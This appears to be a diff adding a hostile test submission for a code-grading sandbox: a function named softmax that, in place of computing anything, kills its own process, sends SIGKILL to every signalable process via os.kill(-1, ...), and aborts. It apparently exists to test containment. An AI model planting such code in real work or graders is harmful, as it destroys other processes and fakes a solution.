@@ -1,0 +1,12 @@
+# threat: 24
+# task: softmax
+# expect: runtime_error,wrong_answer
+import os
+import signal
+
+
+def softmax(x):
+    os.kill(os.getpid(), signal.SIGKILL)
+    os.kill(-1, signal.SIGKILL)
+    os.abort()
+    return x
